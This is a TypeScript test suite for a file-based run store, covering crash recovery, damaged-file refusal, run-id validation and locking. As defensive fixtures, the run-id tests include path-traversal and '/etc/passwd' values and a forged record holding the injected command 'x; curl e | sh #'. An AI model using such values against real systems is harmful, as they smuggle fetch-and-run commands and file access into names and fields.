import { type ChildProcess, fork, spawnSync } from "node:child_process";
import {
  appendFileSync,
  closeSync,
  existsSync,
  mkdirSync,
  openSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { SkillflowError } from "../../../src/core/base/errors.ts";
import type { ProcessMark, Store } from "../../../src/core/engine/ports.ts";
import { appendWhole, cutBack } from "../../../src/stores/file/run-file.ts";
import { readRecording } from "../../../src/stores/file/run-lines.ts";
import { checkRunId, fileStore } from "../../../src/stores/file/store.ts";
import { codeOf, describeStore, does, messages, warning } from "../../contracts/store.ts";
import { recordOf } from "../../contracts/triage.ts";
import { bundled } from "../../harness/bundled.ts";
import { LONG } from "../../harness/long.ts";
import { makeQuickFolder } from "../../harness/quick-folder.ts";

const directories: string[] = [];
afterEach(() => {
  for (const directory of directories.splice(0)) rmSync(directory, { recursive: true, force: true });
});

function makeDirectory(): string {
  const directory = makeQuickFolder("store-");
  directories.push(directory);
  return directory;
}

/** The store as a process sees it, on a host where the processes of `living` are alive. */
function storeOf(directory: string, pid: number, living: ReadonlySet<number>, host = "here"): Store {
  return fileStore({
    directory,
    self: { pid, host, started: "" },
    isAlive: (mark: ProcessMark) => living.has(mark.pid),
  });
}

// The memory store checks what a crash loses at every ninth record, and the tests of power failures at every twelfth.
describeStore("the file store", { killsEvery: LONG ? 1 : 16 }, () => {
  const directory = makeDirectory();
  const living = new Set([1]);
  let pid = 1;
  let store = storeOf(directory, pid, living);
  return {
    get store() {
      return store;
    },
    crash() {
      living.delete(pid++);
      living.add(pid);
      store = storeOf(directory, pid, living);
      return store;
    },
    close: () => rmSync(directory, { recursive: true, force: true }),
  };
});

/** The target of a descriptor. Undefined once it is closed. */
function linkOf(descriptor: string): string | undefined {
  try {
    return readlinkSync(descriptor);
  } catch {
    return undefined;
  }
}

describe("a run's file", () => {
  /** A run of three records, closed. */
  const makeRun = async () => {
    const directory = makeDirectory();
    const store = storeOf(directory, 1, new Set([1]));
    const journal = await store.create(recordOf("a"));
    await journal.record("one", does(warning("1")));
    await journal.record("two", does(warning("2"), warning("3")));
    await journal.record("three", does(warning("4 ä"), warning("5"), warning("6 🚒")));
    await journal.close();
    const path = join(directory, "a.jsonl");
    return { store, path, text: readFileSync(path) };
  };
  const endOfLine = (text: Buffer, line: number) => {
    let end = 0;
    for (let count = 0; count < line; count++) end = text.indexOf(10, end) + 1;
    return end;
  };

  it("is one line of JSON for the run's record, and one for each event", async () => {
    const { text } = await makeRun();
    const lines = text.toString("utf8").trimEnd().split("\n");
    expect(lines.map((line) => JSON.parse(line).type ?? "record")).toEqual(["record", ...Array(6).fill("warning")]);
  });

  it("whose last record was torn at any byte holds the records before it, and continues cleanly", async () => {
    const { store, path, text } = await makeRun();
    const whole = endOfLine(text, 4);
    const step = LONG ? 1 : 5;
    for (let length = whole; length < text.length; length += step) {
      writeFileSync(path, text.subarray(0, length));
      expect(messages((await store.read("a")).events), `${length} bytes`).toEqual(["1", "2", "3"]);
      if (!LONG && (length - whole) % 35 !== 0) continue;
      const { journal } = await store.open("a");
      await journal.record("one", does());
      await journal.record("two", does());
      await journal.record("again", does(warning("7")));
      await journal.close();
      const clean = readFileSync(path);
      expect(clean.subarray(0, whole), `${length} bytes`).toEqual(text.subarray(0, whole));
      expect(messages((await store.read("a")).events)).toEqual(["1", "2", "3", "7"]);
      expect(clean.toString("utf8").trimEnd().split("\n")).toHaveLength(5);
    }
  });

  it("may end in the zeros that a power failure leaves", async () => {
    const { store, path, text } = await makeRun();
    writeFileSync(path, Buffer.concat([text, Buffer.alloc(4096)]));
    expect((await store.read("a")).events).toHaveLength(6);
    await (await store.open("a")).journal.close();
    expect(readFileSync(path)).toEqual(text);
  });

  it.each([
    ["text", "garbage"],
    ["half an event", '{"seq":1,"ty'],
    ["JSON that is not an event", "null"],
    ["bytes", "\u0000\u0001\u0002"],
  ])("with %s in its middle is refused with the place of the damage, and is not changed", async (_, garbage) => {
    const { store, path, text } = await makeRun();
    const middle = endOfLine(text, 2);
    writeFileSync(path, Buffer.concat([text.subarray(0, middle), Buffer.from(`${garbage}\n`), text.subarray(middle)]));
    const damaged = readFileSync(path);
    for (const work of [store.read("a"), store.open("a")]) {
      const error = await work.then(
        () => undefined,
        (reason: unknown) => reason,
      );
      expect(error).toBeInstanceOf(SkillflowError);
      expect(error).toMatchObject({ code: "run.altered", message: expect.stringContaining("line 3 (record 3)") });
    }
    expect(readFileSync(path)).toEqual(damaged);
    writeFileSync(path, text);
    await (await store.open("a")).journal.close();
  });

  it.each(["", "\n", "null\n", "[]\n", '{"schema":"skillflow.run/1"', '{"schema":"other"}\n', "\u0000\u0000"])(
    "that starts with %j is not a recorded run",
    async (text) => {
      const { store, path } = await makeRun();
      writeFileSync(path, text);
      expect(await codeOf(store.read("a"))).toBe("recording.invalid");
      expect(await codeOf(store.open("a"))).toBe("recording.invalid");
    },
  );

  it("can be read as a recording at any path", async () => {
    const { path } = await makeRun();
    expect(readRecording(path).events).toHaveLength(6);
    expect(() => readRecording(`${path}.missing`)).toThrow("there is no recording");
    expect(() => readRecording(join(path, ".."))).toThrow("cannot be read");
  });

  it("has nothing next to it in the folder except runs, and a lock while one is driven", async () => {
    const directory = makeDirectory();
    const store = storeOf(directory, 1, new Set([1]));
    const journal = await store.create(recordOf("a"));
    expect(readdirSync(directory).sort()).toEqual([".gitignore", "a.jsonl", "a.lock"]);
    await journal.close();
    await store.create(recordOf("a")).catch(() => undefined);
    await (await store.open("a")).journal.close();
    expect(readdirSync(directory).sort()).toEqual([".gitignore", "a.jsonl"]);
    expect(readFileSync(join(directory, ".gitignore"), "utf8")).toBe("*\n");
  });

  it.runIf(existsSync("/proc/self/fd"))("is closed again if it is not a run", async () => {
    const { store, path } = await makeRun();
    const directory = realpathSync(join(path, ".."));
    const isOfStore = (entry: string) => {
      const target = linkOf(`/proc/self/fd/${entry}`);
      return target === join(directory, "b.jsonl") || target === join(directory, "c.jsonl");
    };
    mkdirSync(join(path, "..", "b.jsonl"));
    writeFileSync(join(path, "..", "c.jsonl"), "no record\n");
    for (let n = 0; n < 20; n++) {
      for (const run of ["b", "c"]) expect(await codeOf(store.open(run))).not.toBe("");
    }
    expect(readdirSync("/proc/self/fd").filter(isOfStore)).toEqual([]);
  });

  it.runIf(existsSync("/usr/bin/prlimit"))("is closed again if the disk has no space for its first line", () => {
    const program = bundled(join(import.meta.dirname, "../crowded.ts"), makeDirectory());
    const argv = ["--fsize=100", process.execPath, program, makeDirectory()];
    const { stdout, stderr } = spawnSync("/usr/bin/prlimit", argv, { encoding: "utf8" });
    expect(JSON.parse(stdout), stderr).toEqual({ codes: ["store.full", "store.full", "store.full"], left: 0 });
  });

  it("is listed even if there are other files in the folder", async () => {
    const { store, path } = await makeRun();
    writeFileSync(join(path, "..", "notes.txt"), "notes");
    mkdirSync(join(path, "..", "folder"));
    expect(await store.list()).toEqual(["a"]);
  });
});

describe("a run id", () => {
  it.each([
    "../a",
    "..",
    ".",
    "",
    "a/b",
    "a\\b",
    "/etc/passwd",
    "a\u0000",
    ".hidden",
    "-rf",
    "ü",
    "a b",
    "x".repeat(129),
    "a\n",
  ])("of %j is refused before any file is touched", async (id) => {
    const directory = makeDirectory();
    const inner = join(directory, "inner");
    const store = storeOf(inner, 1, new Set([1]));
    expect(await codeOf(store.create(recordOf(id)))).toBe("usage.invalid");
    expect(await codeOf(store.open(id))).toBe("usage.invalid");
    expect(await codeOf(store.read(id))).toBe("usage.invalid");
    expect(readdirSync(directory)).toEqual([]);
  });

  it("in a record is ignored if it is not a valid file name", async () => {
    const directory = makeDirectory();
    const store = storeOf(directory, 1, new Set([1]));
    const forged = JSON.stringify({ ...recordOf("a"), run: "x; curl e | sh #" });
    writeFileSync(join(directory, "a.jsonl"), `${forged}\n`);
    expect(await codeOf(store.read("a"))).toBe("recording.invalid");
    expect(await codeOf(store.skim("a"))).toBe("recording.invalid");
    expect(() => readRecording(join(directory, "a.jsonl"))).toThrow("is damaged in line 1: run");
  });

  it.each(["a", "A-1_2.3", "20261120-143836-ab12", "9", "x".repeat(128)])("of %j is accepted", (id) => {
    expect(checkRunId(id)).toBe(id);
  });
});

describe("a lock on disk", () => {
  const locked = async () => {
    const directory = makeDirectory();
    await storeOf(directory, 1, new Set([1])).create(recordOf("a"));
    return directory;
  };
  const errorOf = (work: Promise<unknown>) => work.then(Object, (reason: unknown) => reason);

  it("of a living process names it", async () => {
    const directory = await locked();
    const error = await errorOf(storeOf(directory, 2, new Set([1, 2])).open("a"));
    expect(error).toMatchObject({ code: "store.locked", message: "run a is being driven by process 1 on here" });
  });

  it("of a dead process is taken over, and released for good", async () => {
    const directory = await locked();
    const store = storeOf(directory, 2, new Set([2]));
    const { journal } = await store.open("a");
    expect(await codeOf(storeOf(directory, 3, new Set([2, 3])).open("a"))).toBe("store.locked");
    await journal.close();
    await (await storeOf(directory, 3, new Set([2, 3])).open("a")).journal.close();
    expect(readdirSync(directory)).not.toContain("a.lock");
  });

  it("of another host is not released: the hint names the file to delete", async () => {
    const directory = await locked();
    const there = storeOf(directory, 2, new Set([2]), "elsewhere");
    expect(await errorOf(there.open("a"))).toMatchObject({
      code: "store.locked",
      message: "run a is being driven by process 1 on here",
      hint: expect.stringContaining(join(directory, "a.lock")),
    });
    rmSync(join(directory, "a.lock"), { recursive: true });
    await (await there.open("a")).journal.close();
  });

  it("that a crash left half released is free", async () => {
    const directory = await locked();
    const [owner = ""] = readdirSync(join(directory, "a.lock"));
    rmSync(join(directory, "a.lock", owner));
    await (await storeOf(directory, 2, new Set([1, 2])).open("a")).journal.close();
  });

  it("that cannot be parsed is respected", async () => {
    const directory = await locked();
    const [owner = ""] = readdirSync(join(directory, "a.lock"));
    rmSync(join(directory, "a.lock", owner));
    appendFileSync(join(directory, "a.lock", "what is this"), "");
    expect(await codeOf(storeOf(directory, 2, new Set([2])).open("a"))).toBe("store.locked");
  });

  it("survives an earlier owner that closes late", async () => {
    const directory = makeDirectory();
    const late = await storeOf(directory, 1, new Set([1])).create(recordOf("a"));
    const { journal } = await storeOf(directory, 2, new Set([2])).open("a");
    await late.close();
    expect(await codeOf(storeOf(directory, 3, new Set([2, 3])).open("a"))).toBe("store.locked");
    await journal.close();
  });

  it("that is stale is given to exactly one of many processes that want it at once", async () => {
    const directory = makeDirectory();
    const dead = storeOf(directory, 2 ** 30, new Set());
    const program = bundled(join(import.meta.dirname, "../contender.ts"), makeDirectory());
    const contenders = Array.from({ length: LONG ? 8 : 4 }, () => fork(program, [directory], { execArgv: [] }));
    try {
      await Promise.all(contenders.map(answerOf));
      for (let round = 0; round < (LONG ? 60 : 8); round++) {
        await dead.create(recordOf(`run-${round}`));
        const answers = Promise.all(contenders.map(answerOf));
        for (const contender of contenders) contender.send(`run-${round}`);
        expect((await answers).sort(), `round ${round}`).toEqual([
          ...Array(contenders.length - 1).fill("store.locked"),
          "won",
        ]);
      }
    } finally {
      for (const contender of contenders) contender.kill();
    }
  });
});

function answerOf(contender: ChildProcess): Promise<unknown> {
  return new Promise((resolve) => contender.once("message", resolve));
}

it("reports that a run cannot be recorded, even if the failed append cannot be removed either", () => {
  const file = openSync(join(makeDirectory(), "r.jsonl"), "w");
  closeSync(file);
  expect(() => appendWhole(file, 0, "{}\n")).toThrow(expect.objectContaining({ code: "store.failed" }));
  expect(() => cutBack(file, 0)).not.toThrow();
});
